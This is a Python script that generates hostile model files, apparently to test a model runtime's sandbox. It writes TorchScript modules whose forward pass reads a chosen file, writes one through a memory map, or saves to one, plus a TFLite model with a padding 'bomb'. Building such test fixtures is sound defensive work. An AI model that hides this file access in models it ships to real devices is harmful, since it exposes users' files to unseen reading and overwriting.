"""Writes model files that attack the device into the folder given: run in a process of its own, for its imports.

Arguments: the folder, a file to read, a file to write.
"""

from __future__ import annotations

import json
import logging
import sys
import warnings
from pathlib import Path

warnings.simplefilter("ignore")
logging.disable(logging.WARNING)

import litert_torch  # noqa: E402
import torch  # noqa: E402
from torch import Tensor, nn  # noqa: E402
from torch.nn import functional  # noqa: E402

# Columns that the padding adds: the number whose one bit makes the bomb.
PADDING = 7


class Padded(nn.Module):
    """Pads the images, by a number that stands in the file."""

    def forward(self, x: Tensor) -> Tensor:
        return functional.pad(x, (0, PADDING)).mean((1, 2))


# The paths are part of the scripts' source.
READER = """
def forward(self, x):
    return x + torch.from_file({path!r}, False, 1, dtype=torch.uint8).sum()
"""
MAPPER = """
def forward(self, x):
    return x + torch.from_file({path!r}, True, 64, dtype=torch.uint8).fill_(65).sum()
"""
SAVER = """
def forward(self, x):
    torch.save(x, {path!r})
    return x
"""


def scripted(source: str, path: Path) -> None:
    module = type(path.stem, (torch.jit.ScriptModule,), {})()  # one class takes one method of a name
    module.define(source)
    declared = json.dumps({"inputs": [{"name": "args_0", "dtype": "float32", "shape": [4]}]})
    module._save_for_lite_interpreter(str(path), _extra_files={"inputs.json": declared})


def main(folder: Path, readable: str, writable: str) -> None:
    scripted(READER.format(path=readable), folder / "reader.ptl")
    scripted(MAPPER.format(path=writable), folder / "mapper.ptl")
    scripted(SAVER.format(path=writable), folder / "saver.ptl")
    litert_torch.convert(Padded().eval(), (torch.zeros(2, 1, 8, 8),)).export(str(folder / "pad.tflite"))


if __name__ == "__main__":
    main(Path(sys.argv[1]), *sys.argv[2:])
